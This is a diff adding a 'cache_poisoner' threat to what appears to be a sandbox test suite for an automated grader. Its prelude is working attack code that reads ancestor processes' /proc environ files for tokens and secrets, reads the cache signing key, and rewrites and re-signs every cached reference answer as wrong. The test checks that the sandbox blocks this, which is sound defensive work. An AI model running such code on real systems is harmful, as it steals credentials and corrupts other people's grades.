@@ -1703,6 +1703,99 @@ EMPIRICAL_VS_DATA_GENERATING = "MEMORY LOG\\n" + _HOARD_LOG
 )
 
 
+threat(
+    name="cache_poisoner",
+    doc="""Tries to change later grades through the grader's on-disk reference cache. At import
+it reads the environment of every ancestor process (/proc/PID/environ: tokens, and
+GRADER_CACHE_DIR), then rewrites every entry of every grader cache it can find so that each
+cached reference answer becomes a wrong one, and tries to read the cache's key. What worked
+is recorded in EMPIRICAL_VS_DATA_GENERATING ("ENV-LEAK ...", "REWROTE ...", "KEY-READ ...").
+All answers are correct: nothing is lost, but nothing may work; a correct hand-in graded
+later, even in another run sharing the cache, still gets full marks
+(tests/sandbox/test_degraded.py grades both without namespaces).""",
+    imports=["glob", "hashlib", "hmac", "json"],
+    prelude='''
+# ATTACK: read the grader's environment, poison its reference cache; record what worked.
+def _ancestors():
+    pid, seen = os.getppid(), []
+    while pid > 1 and len(seen) < 20:
+        seen.append(pid)
+        try:
+            with open(f"/proc/{pid}/stat", "rb") as fh:
+                pid = int(fh.read().rsplit(b")", 1)[1].split()[1])
+        except (OSError, ValueError, IndexError):
+            break
+    return seen
+
+
+def _poison():
+    log, dirs = [], set()
+    for pid in _ancestors():
+        try:
+            with open(f"/proc/{pid}/environ", "rb") as fh:
+                env = dict(v.split(b"=", 1) for v in fh.read().split(b"\\0") if b"=" in v)
+        except OSError as exc:
+            log.append(f"ENV-BLOCKED {pid}: {type(exc).__name__}")
+            continue
+        for name, value in env.items():
+            if b"TOKEN" in name or b"SECRET" in name or name == b"GRADER_CACHE_DIR":
+                log.append(f"ENV-LEAK {name.decode()}={value.decode(errors='replace')}")
+        if b"GRADER_CACHE_DIR" in env:
+            dirs.add(env[b"GRADER_CACHE_DIR"].decode())
+        if b"HOME" in env:
+            dirs.add(env[b"HOME"].decode() + "/.cache/grader")
+    dirs.update({os.path.expanduser("~/.cache/grader"), "/root/.cache/grader"})
+    for d in sorted(dirs):
+        key = None
+        try:
+            with open(os.path.join(d, "key")) as fh:
+                key = bytes.fromhex(fh.read().strip())
+            log.append(f"KEY-READ {d}")
+        except (OSError, ValueError) as exc:
+            log.append(f"KEY-BLOCKED {d}: {type(exc).__name__}")
+        rewrote = 0
+        for path in glob.glob(os.path.join(d, "*", "*.json")):
+            try:
+                with open(path) as fh:
+                    entry = json.load(fh)
+                entry["value"] = _wrong(entry.get("value"))
+                if key is not None:  # sign it as grader/cache.py does
+                    body = [entry.get("format"), entry.get("key"), entry.get("kind"), entry["value"]]
+                    text = json.dumps(body, sort_keys=True, separators=(",", ":"))
+                    entry["mac"] = hmac.new(key, text.encode(), hashlib.sha256).hexdigest()
+                with open(path, "w") as fh:
+                    json.dump(entry, fh)
+                rewrote += 1
+            except (OSError, ValueError):
+                pass
+        if rewrote:
+            log.append(f"REWROTE {rewrote} entries in {d}")
+    return "\\n".join(log) or "nothing found"
+
+
+def _wrong(value):
+    """The same shape, every sympy object a wrong number."""
+    if isinstance(value, dict) and "$sympy" in value:
+        return {"$sympy": "Integer(7)"}
+    if isinstance(value, dict):
+        return {k: _wrong(v) for k, v in value.items()}
+    if isinstance(value, list):
+        return [_wrong(v) for v in value]
+    return value
+
+
+try:
+    _POISON_LOG = _poison()
+except BaseException as _exc:
+    _POISON_LOG = f"poisoning failed: {_exc!r}"
+''',
+    replace={"text": '''
+EMPIRICAL_VS_DATA_GENERATING = "CACHE LOG\\n" + _POISON_LOG
+'''},
+    answers_must_not_contain=["ENV-LEAK", "REWROTE", "KEY-READ"],
+)
+
+
 # ---------------------------------------------------------------- the correct hand-in
 CORRECT_FILE = "Zoë Müller – korrekt.py"
 CORRECT_DOC = """Exercise sheet 6: a complete, correct hand-in (the file name has non-ASCII characters
